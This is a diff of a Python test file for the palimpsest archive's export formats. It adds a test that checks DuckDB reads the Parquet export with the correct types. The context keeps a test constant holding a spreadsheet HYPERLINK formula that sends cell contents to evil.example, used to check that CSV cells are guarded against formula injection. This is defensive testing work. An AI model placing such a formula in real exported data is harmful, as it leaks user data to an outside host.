@@ -26,6 +26,8 @@ from palimpsest.exports.taking import FORMATS, take_versions
 from palimpsest.model import Extraction, Heading, Paragraph, Source, Video, VideoBlock, sha256
 from palimpsest.storage import Archive
 
+from .judges import judge, needs_judges
+
 NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
 HOUR = timedelta(hours=1)
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
@@ -217,6 +219,20 @@ def test_a_guarded_cell_is_undone_without_loss(text: str) -> None:
     cell = csv_format.guarded(text)
     assert csv_format.unguarded(cell) == text
     assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
+
+
+@needs_judges
+def test_duckdb_reads_the_parquet_with_its_types(three: Archive, tmp_path: Path) -> None:
+    path = tmp_path / "out.parquet"
+    take_versions(three, Selection(versions="all"), "parquet", path)
+    code = (
+        'import duckdb, sys; print(duckdb.sql("SELECT count(*), max(number), min(year(first_seen)),'
+        ' typeof(any_value(authors)) FROM read_parquet(\'" + sys.argv[1] + "\')").fetchall())'
+    )
+    told = judge("python", "-c", code, path)
+    count = len(pq.read_table(path))
+    assert told.startswith(f"[({count}, ")
+    assert told.rstrip().endswith("2026, 'VARCHAR[]')]")
 
 
 def test_polars_reads_the_parquet_with_its_types(three: Archive, tmp_path: Path) -> None:
